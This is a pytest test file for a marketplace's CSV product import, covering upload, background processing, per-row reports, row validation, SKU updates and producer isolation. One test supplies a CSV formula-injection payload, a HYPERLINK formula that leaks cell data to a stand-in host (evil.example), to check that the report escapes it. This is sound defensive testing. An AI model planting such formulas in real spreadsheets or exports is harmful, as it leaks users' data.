"""CSV bulk import (issue 16 item 7): upload through the real multipart form, the durable job run by
a real worker while the progress endpoint is polled until done, the per-row report, the wrong
header refused at once, bad rows skipped with their reason while good rows are kept. Both databases."""

from __future__ import annotations

import csv
import io
from typing import Any

import anyio
import msgspec
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.jobs import Worker
from app.settings import Settings
from domains.market import csv_import
from domains.market.csv_import import HEADER, import_dir
from domains.market.import_models import CsvImport
from domains.market.models import Category, Product, StockLevel, Variant
from tests.domains.market.conftest import form_token, make_producer
from tests.helpers.web import signup

pytestmark = pytest.mark.anyio


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return msgspec.structs.replace(settings, market_currency="GBP")


def csv_text(rows: list[list[str]], header: tuple[str, ...] = HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def generated(n: int) -> list[list[str]]:
    """``n`` rows: products of three sizes each (the first row of each product carries its title)."""
    rows = []
    for i in range(n):
        product, size = divmod(i, 3)
        rows.append([f"jam-{product}", f"Jam number {product}" if size == 0 else "", "Made *by hand*." if size == 0
                     else "", f"JAM-{product}-{size}", f"size={['S', 'M', 'L'][size]}", f"{2 + size}.50", "GBP", "",
                     str(size * 4), "", "jam;preserves", "active" if product % 2 else "draft"])
    return rows


async def upload(client: Any, body: bytes, name: str = "products.csv") -> Any:
    token = await form_token(client, "/market/admin/import")
    return await client.post("/market/admin/import/csv", data={"_csrf_token": token},
                             files={"file": (name, body, "text/csv")})


async def run_worker_until_idle(sessionmaker: async_sessionmaker[AsyncSession], settings: Settings) -> None:
    worker = Worker(sessionmaker, settings=settings)
    while await worker.run_once():
        pass


async def test_five_thousand_rows_with_progress_polled(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
                                                       settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_import, "CHUNK", 250)
    await make_producer(client, sessionmaker)
    response = await upload(client, csv_text(generated(5000)))
    assert response.status_code == 303, response.text[:500]
    page = response.headers["location"]
    assert page.startswith("/market/admin/import/csv/")
    first = await client.get(page)
    assert first.status_code == 200 and 'hx-trigger="every 1s"' in first.text and "<progress" in first.text
    seen: list[int] = []
    final: dict[str, Any] = {}

    async def poll() -> None:
        while True:
            r = await client.get(f"{page}/progress", headers={"Accept": "application/json"})
            assert r.status_code == 200
            data = r.json()
            seen.append(data["processed_rows"])
            if data["state"] in ("done", "failed"):
                final.update(data)
                return
            await anyio.sleep(0.02)

    async with anyio.create_task_group() as tg:
        tg.start_soon(poll)
        await run_worker_until_idle(sessionmaker, settings)
    assert final["state"] == "done", final
    assert final["total_rows"] == 5000 and final["processed_rows"] == 5000
    assert (final["created"], final["updated"], final["skipped"]) == (5000, 0, 0)
    assert final["percent"] == 100
    assert seen == sorted(seen)  # progress only moves forward
    assert any(0 < s < 5000 for s in seen), seen[:20]  # polled while it ran: a chunk at a time
    partial = await client.get(f"{page}/progress", headers={"HX-Request": "true"})
    assert 'data-state="done"' in partial.text and "hx-trigger" not in partial.text  # polling stops
    async with sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(Variant)) == 5000
        assert await session.scalar(select(func.count()).select_from(Product)) == 1667
        assert await session.scalar(select(func.count()).select_from(StockLevel)) == 5000
        jam = (await session.scalars(select(Product).where(Product.slug == "jam-1"))).one()
        assert jam.title == "Jam number 1" and jam.status == "active" and jam.published_at is not None
        assert "<em>by hand</em>" in jam.description_html
    # imported products are searchable at once (their search documents are written with them)
    found = await client.get("/market/search?q=number+1")
    assert found.status_code == 200 and "Jam number 1" in found.text
    report = await client.get(f"{page}/report.csv")
    assert report.status_code == 200
    lines = list(csv.reader(io.StringIO(report.text)))
    assert lines[0] == ["row", "sku", "outcome", "reason"] and len(lines) == 5001
    assert lines[1] == ["2", "JAM-0-0", "created", ""]


async def test_wrong_header_refused_at_once(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
                                            settings: Settings) -> None:
    await make_producer(client, sessionmaker)
    response = await upload(client, csv_text([["a", "b"]], header=("name", "price")))
    assert response.status_code == 422
    assert "The first line must be the header product_slug,title" in response.text
    assert "this file starts with name,price" in response.text
    response = await upload(client, b"\xff\xfe\x00n\x00a\x00m\x00e" * 50)
    assert response.status_code == 422 and "UTF-8" in response.text
    async with sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(CsvImport)) == 0
    assert not any(import_dir(settings.data_dir).glob("*")) if import_dir(settings.data_dir).exists() else True


async def test_bad_rows_skipped_good_rows_kept_and_updates_by_sku(
        client: Any, sessionmaker: async_sessionmaker[AsyncSession], settings: Settings) -> None:
    await make_producer(client, sessionmaker)
    async with sessionmaker() as session, session.begin():
        session.add(Category(name="Preserves", slug="preserves"))
    good = ["plum-jam", "Plum jam", "", "PLUM-S", "size=S", "3.00", "", "", "5", "preserves", "", "active"]
    rows = [
        good,
        ["plum-jam", "", "", "PLUM-L", "size=L", "5.00", "GBP", "6.00", "2", "", "", "active"],
        ["plum-jam", "", "", "PLUM-X", "size=S", "5.00", "", "", "", "", "", "active"],  # repeats PLUM-S's options
        ["plum-jam", "", "", "PLUM-N", "size=XL", "-1", "", "", "", "", "", "active"],
        ["plum-jam", "", "", "PLUM-C", "size=XXL", "1.00", "USD", "", "", "", "", "active"],
        ["plum-jam", "", "", "PLUM-Q", "size=Q", "1.00", "", "", "2.5", "", "", "active"],
        ["plum-jam", "", "", "", "size=Z", "1.00", "", "", "", "", "", "active"],
        ["new-thing", "", "", "NEW-1", "", "1.00", "", "", "", "", "", "draft"],  # new product without a title
        ["Bad Slug!", "Bad", "", "BAD-1", "", "1.00", "", "", "", "", "", "draft"],
        ["pear-jam", "Pear jam", "", "PEAR-1", "colour", "1.00", "", "", "", "", "", "draft"],
        ["pear-jam", "Pear jam", "", "PEAR-2", "", "1.00", "", "", "", "nosuch", "", "draft"],
        ["too", "few"],
        ["pear-jam", "Pear jam", "", "PEAR-3", "", "2.00", "", "", "", "", "", "wobbly"],
        ["pear-jam", "Pear jam", "", "PEAR-4", "", "2.00", "", "", "7", "", "", "draft"],
    ]
    response = await upload(client, csv_text(rows))
    assert response.status_code == 303
    await run_worker_until_idle(sessionmaker, settings)
    page = await client.get(response.headers["location"])
    assert page.status_code == 200
    report = list(csv.reader(io.StringIO((await client.get(response.headers["location"] + "/report.csv")).text)))[1:]
    outcomes = {line[1] or f"row {line[0]}": (line[2], line[3]) for line in report}
    assert {k for k, v in outcomes.items() if v[0] == "created"} == {"PLUM-S", "PLUM-L", "PEAR-4"}
    reasons = {k: v[1] for k, v in outcomes.items() if v[0] == "skipped"}
    assert "repeat those of SKU PLUM-S" in reasons["PLUM-X"]
    assert "price" in reasons["PLUM-N"]
    assert "not the market's currency (GBP)" in reasons["PLUM-C"]
    assert "stock" in reasons["PLUM-Q"]
    assert "sku is required" in reasons["row 8"]
    assert "title is required" in reasons["NEW-1"]
    assert "product_slug" in reasons["BAD-1"]
    assert "name=value" in reasons["PEAR-1"]
    assert "no category" in reasons["PEAR-2"]
    assert "fields, not 12" in reasons["row 13"]
    assert "status" in reasons["PEAR-3"]
    assert "Skipped rows" in page.text and "repeat those of SKU PLUM-S" in page.text  # the report on the page
    async with sessionmaker() as session:
        assert sorted((await session.scalars(select(Variant.sku))).all()) == ["PEAR-4", "PLUM-L", "PLUM-S"]
        plum = (await session.scalars(select(Variant).where(Variant.sku == "PLUM-L"))).one()
        assert (plum.price_minor, plum.compare_at_minor) == (500, 600)

    # A second file updates by SKU: price and stock change, nothing is duplicated.
    again = await upload(client, csv_text([
        ["plum-jam", "", "", "PLUM-S", "size=S", "3.25", "", "", "9", "", "", "active"],
        ["plum-jam", "", "", "PLUM-M", "size=M", "4.00", "", "", "1", "", "", "active"],
    ]))
    await run_worker_until_idle(sessionmaker, settings)
    done = (await client.get(again.headers["location"] + "/progress", headers={"Accept": "application/json"})).json()
    assert (done["created"], done["updated"], done["skipped"]) == (1, 1, 0)
    async with sessionmaker() as session:
        plum_s = (await session.scalars(select(Variant).where(Variant.sku == "PLUM-S"))).one()
        assert plum_s.price_minor == 325
        level = (await session.scalars(select(StockLevel).where(StockLevel.variant_id == plum_s.id))).one()
        assert level.on_hand == 9
        assert await session.scalar(select(func.count()).select_from(Variant)) == 4


async def test_other_producers_sku_and_import_are_theirs(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
                                                          settings: Settings) -> None:
    await make_producer(client, sessionmaker, "alice")
    first = await upload(client, csv_text([["honey", "Honey", "", "HONEY-1", "", "6.00", "", "", "3", "", "",
                                            "active"]]))
    await run_worker_until_idle(sessionmaker, settings)
    alices = first.headers["location"]
    client.cookies.clear()
    await make_producer(client, sessionmaker, "bob")
    assert (await client.get(alices)).status_code == 404  # someone else's import: as if absent
    assert (await client.get(alices + "/report.csv")).status_code == 404
    theirs = await upload(client, csv_text([
        ["honey", "Honey", "", "HONEY-2", "", "6.00", "", "", "", "", "", "draft"],  # alice's slug
        ["my-honey", "Honey", "", "HONEY-1", "", "1.00", "", "", "", "", "", "draft"],  # alice's SKU
    ]))
    await run_worker_until_idle(sessionmaker, settings)
    done = (await client.get(theirs.headers["location"] + "/progress", headers={"Accept": "application/json"})).json()
    assert (done["created"], done["updated"], done["skipped"]) == (0, 0, 2)
    async with sessionmaker() as session:
        honey = (await session.scalars(select(Variant).where(Variant.sku == "HONEY-1"))).one()
        assert honey.price_minor == 600


async def test_template_download(client: Any, sessionmaker: async_sessionmaker[AsyncSession]) -> None:
    await make_producer(client, sessionmaker)
    response = await client.get("/market/admin/import/template.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert tuple(rows[0]) == HEADER and len(rows) >= 3


async def test_members_without_the_role_cannot_import(client: Any) -> None:
    await signup(client, "mallory")
    assert (await client.get("/market/admin/import")).status_code == 403


async def test_a_huge_cell_skips_its_row_not_the_import(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
                                                      settings: Settings) -> None:
    """Python's csv refuses a cell over 131,072 characters with csv.Error: that row is skipped with
    a reason, the rows around it are kept, and other CSV readers keep the default limit."""
    await make_producer(client, sessionmaker)
    limit = csv.field_size_limit()
    rows = [
        ["fig-jam", "Fig jam", "", "FIG-1", "", "3.00", "", "", "", "", "", "draft"],
        ["big-jam", "Big jam", "x" * 200_000, "BIG-1", "", "3.00", "", "", "", "", "", "draft"],
        ["big-jam", "Big jam", "y" * (csv_import.MAX_FIELD + 1), "BIG-2", "", "3.00", "", "", "", "", "", "draft"],
        ["fig-jam", "", "", "FIG-2", "size=L", "4.00", "", "", "", "", "", "draft"],
    ]
    response = await upload(client, csv_text(rows))
    assert response.status_code == 303
    await run_worker_until_idle(sessionmaker, settings)
    done = (await client.get(response.headers["location"] + "/progress", headers={"Accept": "application/json"})).json()
    assert done["state"] == "done" and (done["created"], done["skipped"]) == (2, 2)
    report = list(csv.reader(io.StringIO((await client.get(response.headers["location"] + "/report.csv")).text)))[1:]
    skipped = [line for line in report if line[2] == "skipped"]
    assert [line[0] for line in skipped] == ["3", "4"]
    assert all(f"longer than {csv_import.MAX_FIELD} characters" in line[3] for line in skipped)
    assert csv.field_size_limit() == limit
    async with sessionmaker() as session:
        assert sorted((await session.scalars(select(Variant.sku))).all()) == ["FIG-1", "FIG-2"]


async def test_report_cells_are_formula_safe_and_say_nothing_of_owners(
        client: Any, sessionmaker: async_sessionmaker[AsyncSession], settings: Settings) -> None:
    await make_producer(client, sessionmaker, "alice")
    await upload(client, csv_text([["honey", "Honey", "", "HONEY-1", "", "6.00", "", "", "3", "", "", "draft"]]))
    await run_worker_until_idle(sessionmaker, settings)
    client.cookies.clear()
    await make_producer(client, sessionmaker, "bob")
    theirs = await upload(client, csv_text([
        ["my-honey", "Honey", "", "HONEY-1", "", "1.00", "", "", "", "", "", "draft"],  # alice's SKU
        ["honey", "Honey", "", "HONEY-9", "", "1.00", "", "", "", "", "", "draft"],  # alice's slug
        ["pear", "Pear", "", '=HYPERLINK("http://evil.example/?"&A1,"x")', "", "1.00", "", "", "", "", "", "draft"],
        ["plum", "Plum", "", "@SUM(1+1)", "", "1.00", "", "", "", "", "", "draft"],
    ]))
    await run_worker_until_idle(sessionmaker, settings)
    text = (await client.get(theirs.headers["location"] + "/report.csv")).text
    report = list(csv.reader(io.StringIO(text)))[1:]
    assert len(report) == 4
    for line in report:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in line), line
    assert any(line[1].startswith("'=HYPERLINK") for line in report)
    assert any(line[1] == "'@SUM(1+1)" for line in report)
    reasons = {line[1]: line[3] for line in report}
    assert reasons["HONEY-1"] == "SKU HONEY-1 is already taken"
    assert "another producer" not in text and "already taken" in reasons["HONEY-9"]


async def test_a_chunk_coalesces_its_events_and_purges(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
                                                       settings: Settings) -> None:
    """One product-event job (a batch) and one purge per chunk, not one per row; a row that archives
    a public product purges hard (its pages and images leave the edge); the batch federates."""
    from app.jobs import Job
    from federation.activitypub.market import BATCH_KIND, KIND
    from fragments.purge import PURGE_KIND

    await make_producer(client, sessionmaker)
    rows = [[f"pie-{i}", f"Pie {i}", "", f"PIE-{i}", "", "3.00", "", "", "1", "", "", "active"] for i in range(6)]
    assert (await upload(client, csv_text(rows))).status_code == 303
    worker = Worker(sessionmaker, settings=settings)
    assert await worker.run_once(limit=1) == 1  # the import alone

    async def queued() -> list[Job]:
        async with sessionmaker() as session:
            return list((await session.scalars(select(Job).where(Job.kind != csv_import.CSV_IMPORT)
                                               .order_by(Job.created_at))).all())

    jobs = await queued()
    batches = [j for j in jobs if j.kind == BATCH_KIND]
    assert len(batches) == 1 and not [j for j in jobs if j.kind == KIND]
    assert [(e["slug"], e["kind"]) for e in batches[0].payload["events"]] == [(f"pie-{i}", "created") for i in range(6)]
    purges = [j for j in jobs if j.kind == PURGE_KIND]
    assert len(purges) == 1 and not purges[0].payload["hard"] and "market-products" in purges[0].payload["keys"]
    assert await worker.run_once() >= 2  # the batch federates (no followers: nothing to deliver), purges run
    assert all(j.state == "done" for j in await queued()), [(j.kind, j.state, j.last_error) for j in await queued()]
    async with sessionmaker() as session, session.begin():
        ids = dict((await session.execute(select(Product.slug, Product.id))).tuples().all())
        await session.execute(__import__("sqlalchemy").delete(Job))

    # pie-0 and pie-1 archived (a row that names the product moves its status), pie-2's price changed
    again = [[f"pie-{i}", f"Pie {i}", "", f"PIE-{i}", "", "3.00", "", "", "1", "", "", "archived"] for i in (0, 1)]
    again.append(["pie-2", "Pie 2", "", "PIE-2", "", "3.50", "", "", "1", "", "", "active"])
    assert (await upload(client, csv_text(again))).status_code == 303
    assert await worker.run_once(limit=1) == 1
    jobs = await queued()
    [batch] = [j for j in jobs if j.kind == BATCH_KIND]
    assert [(e["slug"], e["kind"]) for e in batch.payload["events"]] == [
        ("pie-0", "deleted"), ("pie-1", "deleted"), ("pie-2", "updated")]
    purges = [j.payload for j in jobs if j.kind == PURGE_KIND]
    hard = [p for p in purges if p["hard"]]
    assert len(purges) == 2 and len(hard) == 1
    assert {f"market-product:{ids['pie-0']}", f"market-product:{ids['pie-1']}"} <= set(hard[0]["keys"])
    assert f"market-product:{ids['pie-2']}" not in hard[0]["keys"]
    await worker.run_once()
    assert all(j.state == "done" for j in await queued())
